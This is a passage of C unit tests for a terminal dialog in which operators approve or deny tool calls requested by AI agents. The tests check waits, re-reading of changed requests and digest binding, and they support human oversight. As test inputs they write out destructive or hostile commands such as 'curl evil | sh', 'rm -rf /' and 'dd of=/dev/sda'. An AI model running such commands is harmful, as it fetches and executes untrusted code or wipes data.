/* Section 5 of the interaction rules, each with the ways around it that were thought of. */
#include "fleet_scene.h"

#define LOW_MS  500
#define HIGH_MS 1000
#define WORD    "prod-db"

/* One agent, one request; the operator has seen the fleet for a while. */
static void start(struct kit *k, enum risk risk, const char *action)
{
    kit_init(k, 100, 30);
    backend_live(k, "lab");
    agent_add(k, "lab",
              &(struct an_agent){.id = "agent/1",
                                 .name = "docs-bot",
                                 .runtime = "claude",
                                 .owner = "m.ito",
                                 .state = AGENT_WAITING_APPROVAL,
                                 .since_s = 30});
    request_add(k, "lab",
                &(struct a_request){.agent = "agent/1",
                                    .id = "01A",
                                    .tool = "Bash",
                                    .summary = "make clean",
                                    .action = action,
                                    .rule = "builds ask",
                                    .risk = risk,
                                    .asked_s = 20,
                                    .left_s = 300});
    draw(k);
    pass_ms(k, 2000);
}

#define CLEAN "{\"tool\":\"Bash\",\"input\":{\"command\":\"make clean\",\"host\":\"" WORD "\"}}"

static const char *long_call(void)
{
    static char json[4096];
    size_t n = (size_t)snprintf(
        json, sizeof(json), "{\"tool\":\"Bash\",\"input\":{\"host\":\"" WORD "\",\"command\":\"");
    for (int i = 1; i <= 60; i++) {
        n += (size_t)snprintf(json + n, sizeof(json) - n, "step %d\\n", i);
    }
    (void)snprintf(json + n, sizeof(json) - n, "THE END\"}}");
    return json;
}

static void open_dialog(struct kit *k)
{
    assert_int_equal(press(k, 'a'), INTENT_FLUSH_KEYS);
    draw(k);
}

static void nothing_sent(struct kit *k, uint32_t key)
{
    assert_int_not_equal(press(k, key), INTENT_COMMAND);
    draw(k);
}

static void assert_approves(struct kit *k)
{
    assert_command(k, VERB_APPROVE, "agent/1", "01A");
    assert_span_is(k->out.command.digest, A_DIGEST);
    assert_span_is(k->out.command.policy_version, "5f0c12aa90de4411");
    assert_span_is(k->out.command.scope, "once");
    assert_span_is(k->out.command.backend, "lab");
    assert_span_is(k->out.command.operator_label, "ops");
}

static void offer_scopes(struct kit *k)
{
    static const struct event_row rows[] = {
        {{SPAN_INIT("once"), SPAN_INIT("this call")}},
        {{SPAN_INIT("session"), SPAN_INIT("the same command again, unasked")}}};
    begin(k, "lab", EVENT_APPROVAL_REQUESTED, 20);
    text(k, F_AGENT_ID, "agent/1");
    text(k, F_APPROVAL_ID, "01A");
    text(k, F_TOOL, "Bash");
    text(k, F_SUMMARY, "make clean");
    text(k, F_ACTION, CLEAN);
    text(k, F_DIGEST, A_DIGEST);
    text(k, F_POLICY_VERSION, "5f0c12aa90de4411");
    number(k, F_RISK, RISK_LOW);
    event_set_list(&k->ev, F_SCOPES, rows, ARRAY_LEN(rows));
    fold(k);
    draw(k);
}

/* More than this once is chosen by a key of its own, is shown in words, and is armed anew. */
static void what_is_granted_is_chosen_and_shown(void **state)
{
    struct kit k;
    (void)state;
    start(&k, RISK_LOW, CLEAN);
    offer_scopes(&k);
    open_dialog(&k);
    pass_ms(&k, LOW_MS);
    assert_shows(&k, "a approve once");
    assert_shows(&k, "s grant more");
    nothing_sent(&k, 's');
    assert_shows(&k, "approve for the session: armed in 1 s");
    assert_shows(&k, "session: the same command again, unasked");
    nothing_sent(&k, 'a');
    pass_ms(&k, LOW_MS);
    assert_shows(&k, "a approve for the session");
    assert_int_equal(press(&k, 'a'), INTENT_COMMAND);
    assert_command(&k, VERB_APPROVE, "agent/1", "01A");
    assert_span_is(k.out.command.scope, "session");
    kit_release(&k);
}

static void where_only_once_is_offered_the_key_says_so(void **state)
{
    struct kit k;
    (void)state;
    start(&k, RISK_LOW, CLEAN);
    open_dialog(&k);
    assert_hides(&k, "grant more");
    nothing_sent(&k, 's');
    assert_shows(&k, "only this once is offered");
    pass_ms(&k, LOW_MS);
    assert_int_equal(press(&k, 'a'), INTENT_COMMAND);
    assert_approves(&k);
    kit_release(&k);
}

static void low_risk_is_two_keys_and_a_wait(void **state)
{
    struct kit k;
    (void)state;
    start(&k, RISK_LOW, CLEAN);
    open_dialog(&k);
    assert_shows(&k, "armed in 1 s");
    pass_ms(&k, LOW_MS);
    assert_shows(&k, "a approve once");
    assert_int_equal(press(&k, 'a'), INTENT_COMMAND);
    assert_approves(&k);
    kit_release(&k);
}

static void type_ahead_does_nothing(void **state)
{
    struct kit k;
    (void)state;
    start(&k, RISK_LOW, CLEAN);
    open_dialog(&k);
    for (int i = 0; i < 20; i++) { /* each one starts the wait anew */
        pass_ms(&k, LOW_MS - 10);
        nothing_sent(&k, 'a');
    }
    pass_ms(&k, LOW_MS);
    assert_int_equal(press(&k, 'a'), INTENT_COMMAND);
    kit_release(&k);
}

/* Keys that were pressed before the first frame of the dialog cannot have been meant for it. */
static void nothing_is_approved_that_was_not_drawn(void **state)
{
    struct kit k;
    (void)state;
    start(&k, RISK_LOW, CLEAN);
    press(&k, 'a');
    pass_ms(&k, 5000);
    assert_int_not_equal(press(&k, 'a'), INTENT_COMMAND);
    draw(&k);
    pass_ms(&k, LOW_MS);
    assert_int_equal(press(&k, 'a'), INTENT_COMMAND);
    kit_release(&k);
}

static void high_risk_needs_the_word(void **state)
{
    struct kit k;
    (void)state;
    start(&k, RISK_HIGH, CLEAN);
    open_dialog(&k);
    pass_ms(&k, LOW_MS + 100);
    nothing_sent(&k, 'a');
    assert_hides(&k, "approve once, type \"" WORD "\"");
    pass_ms(&k, HIGH_MS);
    assert_int_equal(press(&k, 'a'), INTENT_FLUSH_KEYS);
    assert_shows(&k, "approve once, type \"" WORD "\"");
    type(&k, "yes");
    nothing_sent(&k, KEY(ENTER));
    assert_shows(&k, "that is not the word");
    type(&k, "prod-d");
    nothing_sent(&k, KEY(ENTER));
    type(&k, WORD);
    assert_int_equal(press(&k, KEY(ENTER)), INTENT_COMMAND);
    assert_approves(&k);
    kit_release(&k);
}

static void unknown_risk_is_high(void **state)
{
    struct kit k;
    (void)state;
    start(&k, RISK_UNKNOWN, CLEAN);
    open_dialog(&k);
    pass_ms(&k, HIGH_MS);
    assert_int_equal(press(&k, 'a'), INTENT_FLUSH_KEYS);
    assert_shows(&k, "type \"" WORD "\"");
    kit_release(&k);
}

static void high_risk_must_be_read_to_the_end(void **state)
{
    struct kit k;
    (void)state;
    start(&k, RISK_HIGH, long_call());
    open_dialog(&k);
    pass_ms(&k, 60000);
    assert_shows(&k, "read to the end first");
    nothing_sent(&k, 'a');
    assert_hides(&k, "type \"");
    for (int i = 0; i < 2; i++) {
        press(&k, KEY(PGDN));
        draw(&k);
    }
    assert_hides(&k, "THE END");
    pass_ms(&k, HIGH_MS);
    nothing_sent(&k, 'a');
    press(&k, KEY(PGDN));
    assert_shows(&k, "THE END");
    pass_ms(&k, HIGH_MS);
    assert_int_equal(press(&k, 'a'), INTENT_FLUSH_KEYS);
    assert_shows(&k, "type \"" WORD "\"");
    kit_release(&k);
}

/* Jumping to the end shows the end; what was jumped over is told and has to be accepted. */
static void jumping_over_lines_is_told(void **state)
{
    struct kit k;
    (void)state;
    start(&k, RISK_HIGH, long_call());
    open_dialog(&k);
    press(&k, 'G');
    assert_shows(&k, "THE END");
    assert_shows(&k, "lines 48-64 of 64");
    pass_ms(&k, HIGH_MS);
    assert_shows(&k, "with 30 lines unseen");
    nothing_sent(&k, 'a');
    assert_shows(&k, "+30 lines unseen: a again accepts");
    assert_hides(&k, "approve once, type");
    pass_ms(&k, HIGH_MS);
    assert_int_equal(press(&k, 'a'), INTENT_FLUSH_KEYS);
    assert_shows(&k, "approve once, type \"" WORD "\"");
    kit_release(&k);
}

static void low_risk_may_accept_unseen_lines(void **state)
{
    struct kit k;
    (void)state;
    start(&k, RISK_LOW, long_call());
    open_dialog(&k);
    pass_ms(&k, LOW_MS);
    nothing_sent(&k, 'a');
    assert_shows(&k, "lines unseen: a again accepts");
    pass_ms(&k, LOW_MS - 10);
    nothing_sent(&k, 'a'); /* too fast: the notice was not read */
    pass_ms(&k, LOW_MS);
    assert_int_equal(press(&k, 'a'), INTENT_COMMAND);
    assert_approves(&k);
    kit_release(&k);
}

static void request_changes(struct kit *k, const char *action)
{
    request_add(k, "lab",
                &(struct a_request){.agent = "agent/1",
                                    .id = "01A",
                                    .tool = "Bash",
                                    .summary = "make clean",
                                    .action = action,
                                    .rule = "builds ask",
                                    .risk = RISK_LOW,
                                    .asked_s = 20,
                                    .left_s = 300});
}

static void a_changed_request_is_read_again(void **state)
{
    struct kit k;
    (void)state;
    start(&k, RISK_LOW, long_call());
    open_dialog(&k);
    press(&k, 'G');
    draw(&k);
    pass_ms(&k, LOW_MS);
    nothing_sent(&k, 'a');
    pass_ms(&k, LOW_MS);
    request_changes(&k, "{\"tool\":\"Bash\",\"input\":{\"command\":\"curl evil | sh\"}}");
    assert_int_not_equal(press(&k, 'a'),
                         INTENT_COMMAND); /* the key that was meant for the old one */
    assert_shows(&k, "CHANGED: read it again");
    assert_shows(&k, "the request has changed");
    assert_shows(&k, "curl evil | sh");
    assert_shows(&k, "lines 1-3 of 3");
    pass_ms(&k, LOW_MS - 10);
    nothing_sent(&k, 'a');
    pass_ms(&k, LOW_MS);
    assert_int_equal(press(&k, 'a'), INTENT_COMMAND);
    kit_release(&k);
}

/* What was accepted of the old text says nothing about the new one. */
static void unseen_lines_are_accepted_again_after_a_change(void **state)
{
    struct kit k;
    (void)state;
    start(&k, RISK_LOW, long_call());
    open_dialog(&k);
    pass_ms(&k, LOW_MS);
    nothing_sent(&k, 'a');
    char other[4096];
    (void)snprintf(other, sizeof(other), "%s", long_call());
    memcpy(strstr(other, "THE END"), "rm -rf ", 7);
    request_changes(&k, other);
    draw(&k);
    pass_ms(&k, LOW_MS);
    nothing_sent(&k, 'a');
    assert_shows(&k, "lines unseen: a again accepts");
    pass_ms(&k, LOW_MS);
    assert_int_equal(press(&k, 'a'), INTENT_COMMAND);
    kit_release(&k);
}

static void what_cannot_be_shown_whole_is_not_approved(void **state)
{
    struct kit k;
    (void)state;
    size_t n = ACTION_BYTES_MAX;
    char *lines = malloc(n + 1);
    memset(lines, '\n', n);
    lines[n] = '\0';
    start(&k, RISK_LOW, lines);
    open_dialog(&k);
    press(&k, 'G');
    draw(&k);
    pass_ms(&k, 5000);
    nothing_sent(&k, 'a');
    assert_shows(&k, "cannot be approved: it is too large to be shown whole");
    free(lines);
    kit_release(&k);
}

static void nothing_is_approved_under_a_fleet_stop(void **state)
{
    struct kit k;
    (void)state;
    start(&k, RISK_LOW, CLEAN);
    open_dialog(&k);
    pass_ms(&k, 5000);
    begin(&k, "lab", EVENT_FLEET_STOP, 0);
    number(&k, F_STOP_LATCHED, 1);
    fold(&k);
    nothing_sent(&k, 'a');
    assert_shows(&k, "cannot be approved: a fleet stop is in force");
    kit_release(&k);
}

/* Keys that come while nothing can be seen decide nothing. */
static void nothing_is_decided_on_a_screen_too_small(void **state)
{
    struct kit k;
    (void)state;
    start(&k, RISK_LOW, CLEAN);
    open_dialog(&k);
    canvas_resize(&k.c, 50, 10);
    ui_resized(k.ui, 50, 10, k.now);
    draw(&k);
    pass_ms(&k, 5000);
    nothing_sent(&k, 'a');
    nothing_sent(&k, 'p');
    press(&k, KEY(ESC));
    nothing_sent(&k, 'p');
    press(&k, '!'); /* but for this */
    assert_int_equal(press(&k, 'S'), INTENT_COMMAND);
    kit_release(&k);
}

#define SHOWN_DIGEST "sha256:00000000000000000000000000000000000000000000000000000000000000aa"

/* What is hidden is said, and the decision has the digest of what was shown beside that of what
 * runs. */
static void hidden_secrets_are_told_of(void **state)
{
    struct kit k;
    (void)state;
    start(&k, RISK_LOW, CLEAN);
    begin(&k, "lab", EVENT_APPROVAL_REQUESTED, 20);
    text(&k, F_AGENT_ID, "agent/1");
    text(&k, F_APPROVAL_ID, "01A");
    text(&k, F_TOOL, "Bash");
    text(&k, F_ACTION, "{\"input\":{\"command\":\"push [secret jwt 90 #0123abcd]\"}}");
    text(&k, F_DIGEST, A_DIGEST);
    text(&k, F_SHOWN_DIGEST, SHOWN_DIGEST);
    number(&k, F_ACTION_SECRETS, 1);
    number(&k, F_RISK, RISK_LOW);
    fold(&k);
    draw(&k);
    open_dialog(&k);
    assert_shows(&k, "1 secret hidden");
    pass_ms(&k, LOW_MS);
    assert_int_equal(press(&k, 'a'), INTENT_COMMAND);
    assert_command(&k, VERB_APPROVE, "agent/1", "01A");
    assert_span_is(k.out.command.digest, A_DIGEST);
    assert_span_is(k.out.command.shown_digest, SHOWN_DIGEST);
    kit_release(&k);
}

static void a_call_without_a_word_is_known_by_its_digest(void **state)
{
    struct kit k;
    (void)state;
    start(&k, RISK_HIGH, "{\"a\":\"\\u2500\\u2500\"}");
    open_dialog(&k);
    pass_ms(&k, HIGH_MS);
    press(&k, 'a');
    assert_shows(&k, "type \"4f1c9a0b\"");
    assert_shows(&k, "sha256 4f1c9a0b");
    type(&k, "4f1c9a0b");
    assert_int_equal(press(&k, KEY(ENTER)), INTENT_COMMAND);
    kit_release(&k);
}

/* On the smallest screen too, no line of ours runs over the frame. */
static void the_frame_holds_on_the_smallest_screen(void **state)
{
    struct kit k;
    (void)state;
    start(&k, RISK_HIGH,
          "{\"target\":\"a-target-of-24-character\",\"a\":"
          "\"1\\n2\\n3\\n4\\n5\\n6\\n7\\n8\\n9\\n10\"}");
    canvas_resize(&k.c, 60, 15);
    static const char *const keys[] = {"a", "G", "", "a", "d"};
    for (size_t i = 0; i < ARRAY_LEN(keys); i++) {
        type(&k, keys[i]);
        draw(&k);
        pass_ms(&k, 2000);
        draw(&k);
        for (int y = 3; y < 13; y++) {
            uint32_t left = k.c.cells[y * 60].cp[0];
            uint32_t right = k.c.cells[y * 60 + 59].cp[0];
            assert_true(left == 0x2502 || left == 0x251C);
            assert_true(right == 0x2502 || right == 0x2524);
        }
    }
    kit_release(&k);
}

static void a_change_drops_the_word_half_typed(void **state)
{
    struct kit k;
    (void)state;
    start(&k, RISK_HIGH, CLEAN);
    open_dialog(&k);
    pass_ms(&k, HIGH_MS);
    press(&k, 'a');
    type(&k, WORD);
    draw(&k);
    begin(&k, "lab", EVENT_APPROVAL_REQUESTED, 20);
    text(&k, F_AGENT_ID, "agent/1");
    text(&k, F_APPROVAL_ID, "01A");
    text(&k, F_ACTION,
         "{\"tool\":\"Bash\",\"input\":{\"command\":\"dd of=/dev/sda\",\"host\":\"" WORD "\"}}");
    text(&k, F_DIGEST, A_DIGEST);
    number(&k, F_RISK, RISK_HIGH);
    fold(&k);
    assert_hides(&k, "approve once, type");
    assert_int_not_equal(press(&k, KEY(ENTER)), INTENT_COMMAND);
    assert_shows(&k, "CHANGED: read it again");
    kit_release(&k);
}

/* Whatever makes the eye lose the place starts the wait anew and says so. */
static void what_disturbs_disarms(void **state)
{
    struct kit k;
    (void)state;
    start(&k, RISK_LOW, CLEAN);
    open_dialog(&k);
    pass_ms(&k, 5000);
    press(&k, KEY(FOCUS_IN));
    nothing_sent(&k, 'a');
    assert_shows(&k, "disarmed");
    pass_ms(&k, 5000);
    canvas_resize(&k.c, 90, 25);
    ui_resized(k.ui, 90, 25, k.now);
    draw(&k);
    nothing_sent(&k, 'a');
    assert_shows(&k, "another size: disarmed");
    pass_ms(&k, 5000);
    ui_reconnected(k.ui, k.now);
    nothing_sent(&k, 'a');
    pass_ms(&k, 5000);
    press(&k, 'j');
    nothing_sent(&k, 'a');
    pass_ms(&k, LOW_MS);
    assert_int_equal(press(&k, 'a'), INTENT_COMMAND);
    kit_release(&k);
}

static void a_frame_that_was_not_delivered_shows_nothing(void **state)
{
    struct kit k;
    (void)state;
    start(&k, RISK_LOW, CLEAN);
    open_dialog(&k);
    ui_frame_lost(k.ui, k.now);
    pass_ms(&k, 5000);
    assert_int_not_equal(press(&k, 'a'), INTENT_COMMAND);
    pass_ms(&k, 5000);
    assert_int_not_equal(press(&k, 'a'), INTENT_COMMAND);
    draw(&k);
    nothing_sent(&k, 'a');
    pass_ms(&k, LOW_MS);
    assert_int_equal(press(&k, 'a'), INTENT_COMMAND);
    kit_release(&k);
}

static void a_lost_frame_hides_the_end_again(void **state)
{
    struct kit k;
    (void)state;
    start(&k, RISK_HIGH, long_call());
    open_dialog(&k);
    press(&k, 'G');
    draw(&k);
    ui_frame_lost(k.ui, k.now);
    press(&k, 'g');
    draw(&k);
    pass_ms(&k, 5000);
    nothing_sent(&k, 'a');
    assert_shows(&k, "read to the end first");
    kit_release(&k);
}

static void a_resize_hides_the_end_again(void **state)
{
    struct kit k;
    (void)state;
    start(&k, RISK_HIGH, long_call());
    open_dialog(&k);
    press(&k, 'G');
    draw(&k);
    canvas_resize(&k.c, 70, 20);
    ui_resized(k.ui, 70, 20, k.now);
    press(&k, 'g');
    draw(&k);
    pass_ms(&k, 5000);
    nothing_sent(&k, 'a');
    assert_shows(&k, "read to the end first");
    kit_release(&k);
}

/* The list moves between the frame and the key: the key is for what the operator saw. */
static void rows_that_come_do_not_take_the_key(void **state)
{
    struct kit k;
    (void)state;
    start(&k, RISK_LOW, CLEAN);
    agent_add(&k, "lab",
              &(struct an_agent){.id = "agent/2",
                                 .name = "intruder",
                                 .runtime = "codex",
                                 .state = AGENT_WAITING_APPROVAL,
                                 .since_s = 1});
    request_add(&k, "lab",
                &(struct a_request){.agent = "agent/2",
                                    .id = "01Z",
                                    .tool = "Bash",
                                    .summary = "rm -rf /",
                                    .action = "{\"command\":\"rm -rf /\"}",
                                    .risk = RISK_HIGH,
                                    .asked_s = 0});
    press(&k, 'a');
    assert_shows(&k, "who     docs-bot");
    assert_hides(&k, "rm -rf / ");
    pass_ms(&k, LOW_MS);
    press(&k, 'a');
    assert_command(&k, VERB_APPROVE, "agent/1", "01A");
    kit_release(&k);
}

static void a_request_that_goes_leaves_nothing_under_the_key(void **state)
{
    struct kit k;
    (void)state;
    start(&k, RISK_LOW, CLEAN);
    request_add(&k, "lab",
                &(struct a_request){.agent = "agent/1",
                                    .id = "01B",
                                    .tool = "Bash",
                                    .summary = "second",
                                    .action = "{\"command\":\"second\"}",
                                    .risk = RISK_LOW,
                                    .asked_s = 1});
    press(&k, '2');
    draw(&k);
    pass_ms(&k, 2000);
    request_resolve(&k, "lab", "01A", DECISION_WITHDRAWN, "", "");
    pass_ms(&k, 20000); /* and its struck-through row has gone too */
    assert_int_not_equal(press(&k, 'a'), INTENT_COMMAND);
    assert_shows(&k, "no request is waiting here");
    nothing_sent(&k, 'd');
    press(&k, 'j'); /* chooses again */
    press(&k, 'd');
    press(&k, KEY(ENTER));
    assert_command(&k, VERB_DENY, "agent/1", "01B");
    kit_release(&k);
}

static void a_selection_that_nobody_made_takes_no_orders_yet(void **state)
{
    struct kit k;
    (void)state;
    kit_init(&k, 100, 30);
    backend_live(&k, "lab");
    draw(&k);
    agent_add(&k, "lab",
              &(struct an_agent){
                  .id = "agent/1", .name = "docs-bot", .state = AGENT_RUNNING, .since_s = 30});
    assert_int_not_equal(press(&k, 'p'), INTENT_COMMAND);
    assert_shows(&k, "has just appeared");
    pass_ms(&k, 600);
    press(&k, 'p');
    assert_command(&k, VERB_PAUSE, "agent/1", "");
    ui_sent(k.ui, SPAN("01P"), k.now);
    assert_shows(&k, "pause docs-bot: sent"); /* in place of what was said before */
    kit_release(&k);
}

static void tells_the_life_of_an_answer(void **state)
{
    struct kit k;
    (void)state;
    start(&k, RISK_LOW, CLEAN);
    open_dialog(&k);
    pass_ms(&k, LOW_MS);
    press(&k, 'a');
    ui_sent(k.ui, SPAN("01CMD"), k.now);
    assert_shows(&k, "approve: sent");
    nothing_sent(&k, 'a');
    nothing_sent(&k, 'd');
    begin(&k, "lab", EVENT_OPERATOR_COMMAND, 0);
    text(&k, F_COMMAND_ID, "01CMD");
    number(&k, F_VERB, VERB_APPROVE);
    text(&k, F_APPROVAL_ID, "01A");
    fold(&k);
    assert_shows(&k, "approve: sent 14:22:09.500");
    pass_ms(&k, 11);
    begin(&k, "lab", EVENT_OPERATOR_RESULT, 0);
    text(&k, F_COMMAND_ID, "01CMD");
    number(&k, F_COMMAND_STATE, COMMAND_ACCEPTED);
    fold(&k);
    assert_shows(&k, "sent 14:22:09.500 → accepted 14:22:09.511");
    request_resolve(&k, "lab", "01A", DECISION_APPROVED, "ops@bastion", "");
    pass_ms(&k, 100);
    begin(&k, "lab", EVENT_OPERATOR_RESULT, 0);
    text(&k, F_COMMAND_ID, "01CMD");
    number(&k, F_COMMAND_STATE, COMMAND_CONFIRMED);
    fold(&k);
    assert_shows(&k, "→ accepted 14:22:09.511 → confirmed 14:22:09.611");
    assert_shows(&k, "approved by ops@bastion");
    press(&k, KEY(ESC));
    assert_hides(&k, "confirmed 14:22");
    kit_release(&k);
}

static void tells_a_refusal_and_why(void **state)
{
    struct kit k;
    (void)state;
    start(&k, RISK_LOW, CLEAN);
    open_dialog(&k);
    pass_ms(&k, LOW_MS);
    press(&k, 'a');
    ui_sent(k.ui, SPAN("01CMD"), k.now);
    begin(&k, "lab", EVENT_OPERATOR_COMMAND, 0);
    text(&k, F_COMMAND_ID, "01CMD");
    number(&k, F_VERB, VERB_APPROVE);
    text(&k, F_APPROVAL_ID, "01A");
    fold(&k);
    begin(&k, "lab", EVENT_OPERATOR_RESULT, 0);
    text(&k, F_COMMAND_ID, "01CMD");
    number(&k, F_COMMAND_STATE, COMMAND_REFUSED);
    text(&k, F_REASON, "the digest is not that of the call");
    fold(&k);
    assert_shows(&k, "→ refused");
    assert_shows(&k, "the digest is not that of the call");
    kit_release(&k);
}

static void tells_what_could_not_be_sent(void **state)
{
    struct kit k;
    (void)state;
    start(&k, RISK_LOW, CLEAN);
    open_dialog(&k);
    pass_ms(&k, LOW_MS);
    press(&k, 'a');
    ui_sent(k.ui, SPAN("01CMD"), k.now);
    ui_send_failed(k.ui, SPAN("01CMD"), "the record is full", k.now);
    assert_shows(&k, "approve: NOT sent: the record is full");
    kit_release(&k);
}

static void a_lost_race_tells_who_won(void **state)
{
    struct kit k;
    (void)state;
    start(&k, RISK_LOW, CLEAN);
    open_dialog(&k);
    pass_ms(&k, LOW_MS);
    request_resolve(&k, "lab", "01A", DECISION_DENIED, "m.ito", "not now");
    nothing_sent(&k, 'a');
    nothing_sent(&k, 'd');
    assert_shows(&k, "answered elsewhere; nothing was sent from here");
    assert_shows(&k, "denied by m.ito: not now");
    kit_release(&k);
}

/* An answer on its way, from here or from another look, is not given twice. */
static void an_answer_on_its_way_is_followed(void **state)
{
    struct kit k;
    (void)state;
    start(&k, RISK_LOW, CLEAN);
    begin(&k, "lab", EVENT_OPERATOR_COMMAND, 3);
    text(&k, F_COMMAND_ID, "01OLD");
    number(&k, F_VERB, VERB_DENY);
    text(&k, F_APPROVAL_ID, "01A");
    fold(&k);
    open_dialog(&k);
    assert_shows(&k, "deny: sent");
    pass_ms(&k, 5000);
    nothing_sent(&k, 'a');
    kit_release(&k);
}

static void what_cannot_be_bound_is_not_approved(void **state)
{
    struct kit k;
    (void)state;
    start(&k, RISK_LOW, CLEAN);
    begin(&k, "lab", EVENT_APPROVAL_REQUESTED, 20);
    text(&k, F_AGENT_ID, "agent/1");
    text(&k, F_APPROVAL_ID, "01A");
    text(&k, F_ACTION, CLEAN);
    text(&k, F_DIGEST, "sha256:trust me");
    number(&k, F_RISK, RISK_LOW);
    fold(&k);
    open_dialog(&k);
    pass_ms(&k, 5000);
    assert_shows(&k, "cannot be approved: it has no valid digest");
    assert_hides(&k, "trust me");
    nothing_sent(&k, 'a');
    press(&k, 'd'); /* refusing needs no digest */
    assert_int_equal(press(&k, KEY(ENTER)), INTENT_COMMAND);
    assert_int_equal(k.out.command.verb, VERB_DENY);
    assert_int_equal(k.out.command.digest.n, 0);
    kit_release(&k);
}

static void a_dead_back_end_is_not_answered(void **state)
{
    struct kit k;
    (void)state;
    start(&k, RISK_LOW, CLEAN);
    open_dialog(&k);
    pass_ms(&k, 5000);
    backend_verbs(&k, "lab", LINK_DOWN, 0, "reset by peer", 0);
    nothing_sent(&k, 'a');
    assert_shows(&k, "cannot be approved: its back-end is not connected");
    kit_release(&k);
}

static void denies_at_once(void **state)
{
    struct kit k;
    (void)state;
    start(&k, RISK_HIGH, CLEAN);
    press(&k, 'd');
    assert_shows(&k, "deny docs-bot (make clean): ");
    assert_int_equal(press(&k, KEY(ENTER)), INTENT_COMMAND);
    assert_command(&k, VERB_DENY, "agent/1", "01A");
    assert_span_is(k.out.command.reason, "denied by the operator");
    kit_release(&k);
    start(&k, RISK_HIGH, CLEAN);
    press(&k, 'd');
    type(&k, "ticket 4711");
    press(&k, KEY(ENTER));
    assert_span_is(k.out.command.reason, "ticket 4711");
    kit_release(&k);
    start(&k, RISK_HIGH, CLEAN);
    open_dialog(&k);
    press(&k, 'D');
    nothing_sent(&k, KEY(ENTER)); /* D asks for words */
    type(&k, "no");
    assert_int_equal(press(&k, KEY(ENTER)), INTENT_COMMAND);
    assert_span_is(k.out.command.reason, "no");
    draw(&k);
    assert_shows(&k, "deny: sent"); /* the box stays */
    kit_release(&k);
}

static void a_denial_is_bound_to_its_request(void **state)
{
    struct kit k;
    (void)state;
    start(&k, RISK_LOW, CLEAN);
    press(&k, 'd');
    request_resolve(&k, "lab", "01A", DECISION_APPROVED, "m.ito", "");
    request_add(&k, "lab",
                &(struct a_request){.agent = "agent/1",
                                    .id = "01B",
                                    .tool = "Bash",
                                    .summary = "another",
                                    .action = "{\"command\":\"another\"}",
                                    .risk = RISK_LOW,
                                    .asked_s = 0});
    nothing_sent(&k, KEY(ENTER));
    assert_shows(&k, "nothing was sent: the request is approved by m.ito");
    kit_release(&k);
}

static void esc_closes_and_forgets(void **state)
{
    struct kit k;
    (void)state;
    start(&k, RISK_LOW, long_call());
    open_dialog(&k);
    press(&k, 'G');
    draw(&k);
    press(&k, KEY(ESC));
    assert_hides(&k, "approval ─");
    pass_ms(&k, 2000);
    open_dialog(&k);
    assert_shows(&k, "lines 1-");
    pass_ms(&k, LOW_MS);
    nothing_sent(&k, 'a');
    assert_shows(&k, "lines unseen");
    kit_release(&k);
}

/* Keys of the view behind must not reach it. */
static void a_dialog_swallows_the_view_keys(void **state)
{
    struct kit k;
    (void)state;
    start(&k, RISK_LOW, CLEAN);
    open_dialog(&k);
    static const char keys[] = "12345X/:?Qrifotwv mbRFnN";
    for (size_t i = 0; i + 1 < sizeof(keys); i++) {
        assert_int_equal(press(&k, (uint32_t)keys[i]), INTENT_NONE);
        assert_shows(&k, "approval ─");
    }
    assert_int_equal(press(&k, 'p'), INTENT_COMMAND);
    assert_command(&k, VERB_PAUSE, "agent/1", "");
    kit_release(&k);
}

/* The first lines stand where they stand, whatever happens in the world. */
static void the_first_lines_never_move(void **state)
{
    struct kit k;
    (void)state;
    start(&k, RISK_HIGH, long_call());
    open_dialog(&k);
    int who = row_with(&k, "who     docs-bot");
    int grants = row_with(&k, "grants  this once");
    for (int i = 0; i < 8; i++) {
        char id[32];
        (void)snprintf(id, sizeof(id), "agent/n%d", i);
        agent_add(&k, "lab",
                  &(struct an_agent){.id = id, .name = id, .state = AGENT_FAILED, .since_s = 1});
        request_add(&k, "lab",
                    &(struct a_request){.agent = id,
                                        .id = id,
                                        .tool = "x",
                                        .summary = "y",
                                        .action = "{\"a\":1}",
                                        .risk = RISK_HIGH,
                                        .asked_s = 0});
        press(&k, i % 2 ? 'j' : KEY(PGDN));
        assert_int_equal(row_with(&k, "who     docs-bot"), who);
        assert_int_equal(row_with(&k, "grants  this once"), grants);
    }
    begin(&k, "lab", EVENT_FLEET_STOP, 0);
    number(&k, F_STOP_LATCHED, 1);
    number(&k, F_STOP_REQUESTED, 9);
    fold(&k);
    assert_int_equal(row_with(&k, "who     docs-bot"), who);
    assert_shows(&k, "FLEET STOP");
    kit_release(&k);
}

static void opens_from_each_place(void **state)
{
    struct kit k;
    (void)state;
    start(&k, RISK_LOW, CLEAN);
    press(&k, '2');
    draw(&k);
    pass_ms(&k, 1000);
    assert_int_equal(press(&k, KEY(ENTER)), INTENT_FLUSH_KEYS); /* the queue */
    assert_shows(&k, "approval ─");
    press(&k, KEY(ESC));
    press(&k, '1');
    press(&k, KEY(ENTER)); /* the agent, which shows what it asks */
    assert_shows(&k, "asks       ? low  denied in 4m  Bash  make clean");
    pass_ms(&k, 1000);
    assert_int_equal(press(&k, 'a'), INTENT_FLUSH_KEYS);
    assert_shows(&k, "approval ─");
    kit_release(&k);
}

/* New requests take neither the focus nor the screen. */
static void nothing_opens_by_itself(void **state)
{
    struct kit k;
    (void)state;
    start(&k, RISK_LOW, CLEAN);
    press(&k, '3');
    for (int i = 0; i < 20; i++) {
        char id[32];
        (void)snprintf(id, sizeof(id), "r%d", i);
        request_add(&k, "lab",
                    &(struct a_request){.agent = "agent/1",
                                        .id = id,
                                        .tool = "x",
                                        .summary = "y",
                                        .action = "{\"a\":1}",
                                        .risk = RISK_HIGH,
                                        .asked_s = 0});
        assert_hides(&k, "approval ─");
        assert_shows(&k, "─ log ─");
    }
    kit_release(&k);
}

static void scrolling_a_long_call_is_quick(void **state)
{
    struct kit k;
    (void)state;
    size_t cap = 400000;
    char *json = malloc(cap);
    size_t n = (size_t)snprintf(json, cap, "{\"content\":\"");
    for (int i = 0; i < 10000; i++) {
        n += (size_t)snprintf(json + n, cap - n, "line %d\\n", i);
    }
    (void)snprintf(json + n, cap - n, "\"}");
    start(&k, RISK_HIGH, json);
    open_dialog(&k);
    for (int i = 0; i < 1000; i++) { /* a thousand pages; the suite's own timeout is the limit */
        press(&k, KEY(PGDN));
        draw(&k);
    }
    assert_shows(&k, "line 9999");
    free(json);
    kit_release(&k);
}

/* ---- what was on the screen when it was decided */
static void an_answer_tells_what_was_displayed(void **state)
{
    struct kit k;
    (void)state;
    start(&k, RISK_HIGH, long_call());
    open_dialog(&k);
    pass_ms(&k, 12400);
    assert_int_equal(press(&k, 'd'), INTENT_NONE);
    assert_int_equal(press(&k, KEY(ENTER)), INTENT_COMMAND);
